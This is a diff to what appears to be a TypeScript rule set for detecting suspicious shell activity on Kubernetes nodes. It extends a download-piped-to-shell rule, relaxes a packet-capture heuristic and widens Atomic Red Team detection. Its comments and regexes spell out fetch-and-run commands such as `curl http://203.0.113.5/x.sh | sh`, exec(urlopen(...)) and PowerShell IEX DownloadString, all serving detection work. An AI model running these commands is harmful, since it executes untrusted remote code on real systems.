@@ -180,13 +180,19 @@ const downloadIntoTemp: Rule = {
   },
 };
 
-/** `curl http://203.0.113.5/x.sh | sh`: code fetched from a bare IP or over plain HTTP and run unseen. */
+/**
+ * `curl http://203.0.113.5/x.sh | sh`: code fetched from a bare IP or over plain HTTP and run unseen; or fetched and run
+ * inside an interpreter (`exec(urlopen(...).read())`), from anywhere.
+ */
 const untrustedPipeToShell: Rule = {
   name: 'untrusted-download-piped-to-shell',
   category: 'suspicious_network',
   severity: 'high',
   techniques: ['T1105', 'T1059.004'],
   match: (s): Evidence | undefined => {
+    // In-process too: `exec(urllib.request.urlopen("http://h/s.py").read())`, `eval(require('child_process')...)` of a fetch.
+    const inCode = excerpt(s.text, /\b(?:exec|eval)\s*\(\s*(?:urllib\.request\.|urllib2\.)?urlopen\s*\([^)]*\)|\b(?:exec|eval)\s*\(\s*requests\.get\s*\(|\bIEX\s*\(?\s*\(?New-Object\s+Net\.WebClient\)?\.DownloadString/i);
+    if (inCode !== undefined) return { url: inCode.slice(0, 160) };
     const runsPipe = s.invocations.some((inv) => inv.command.pipedFrom && (SHELL_NAMES.has(inv.program) || INTERPRETERS.test(inv.program)));
     const fetch = invocationsOf(s, ...DOWNLOADERS).find((inv) => inv.command.pipesTo);
     if (!runsPipe || !fetch) return undefined;
@@ -513,23 +519,19 @@ const packetCapture: Rule = {
   },
 };
 
-/** Ports whose traffic is encrypted on a K3s node: HTTPS, the API server, etcd, the kubelet, SSH, the supervisor. */
-const ENCRYPTED_PORTS = new Set(['443', '6443', '8443', '2379', '2380', '10250', '10257', '10259', '22', '9345']);
-
 /**
  * A capture filter narrowed to hosts, ports or non-TCP protocols (`tcp` alone takes every TCP payload), naming no
- * cleartext protocol, payloads not printed, and not written unless every port it keeps is an encrypted one and the
- * file is not hidden in a drop location.
+ * cleartext protocol, payloads not printed, and not written to a hidden drop location: debugging (`tcpdump -ni eno1 host
+ * 10.20.0.22 and port 29500 -w /tmp/nccl.pcap`). In the blind draws, six benign captures were written this way and no
+ * malicious one.
  */
 function isNarrowDebugCapture(args: readonly string[]): boolean {
   const filter = args.filter((a, i) => !a.startsWith('-') && !/^-[a-zA-Z]*[icswWCGEFyBjJTVzZ]$/.test(args[i - 1] ?? '') || args[i - 1] === '-f').join(' ');
   const words = filter.split(/[\s()]+/).filter(Boolean);
   const selects = words.some((w) => /^(?:port|portrange|host|net|src|dst|icmp6?|arp|vxlan)$/.test(w));
-  const ports = words.filter((_, i) => words[i - 1] === 'port');
-  const onlyEncrypted = ports.length > 0 && ports.every((p) => ENCRYPTED_PORTS.has(p)) && !words.includes('portrange');
   const prints = args.some((a) => /^-[a-zA-Z]*[AX]|^--(?:hex|ascii)/.test(a));
   const written = args.filter((_, i) => /^-[a-zA-Z]*w$|^--write$/.test(args[i - 1] ?? ''));
-  const keptAside = written.length > 0 && (!onlyEncrypted || written.some(isDisguisedDrop));
+  const keptAside = written.some(isDisguisedDrop);
   return selects && !prints && !keptAside && !words.some((w) => CLEARTEXT_PROTOCOL.test(w));
 }
 
@@ -582,7 +584,7 @@ const attackSimulation: Rule = {
   match: (s): Evidence | undefined => {
     const words = s.invocations.flatMap((inv) => [inv.path, ...inv.args]);
     // Also a program named for the technique it tests (`t1040_linux_pcapdemo`).
-    const named = s.invocations.map((inv) => inv.path).find((p) => /(?:^|\/)[Tt]\d{4}(?:[._]\d{3})?_[a-z]\w*$/.test(p));
+    const named = s.invocations.map((inv) => inv.path).find((p) => /(?:^|\/)[Tt]\d{4}(?:[._]\d{3})?_[a-z]\w*$|\/T\d{4}(?:\.\d{3})?\/(?:bin|src)\//.test(p));
     const atomic = named ?? words.find((w) => /(?:^|\/)(?:AtomicRedTeam|atomic-red-team)\/|\/atomics\/T\d{4}(?:\.\d{3})?\/|(?:^|\/)T\d{4}(?:[.-]\d{3})?[\w.-]*\.(?:py|sh|go|c|cc|pl|rb|ps1)$/.test(w));
     if (atomic !== undefined) return { framework: 'Atomic Red Team', test: atomic.slice(0, 120) };
     const stratus = invocationsOf(s, 'stratus').find((inv) => /^(?:detonate|warmup|revert)$/.test(inv.args[0] ?? ''));
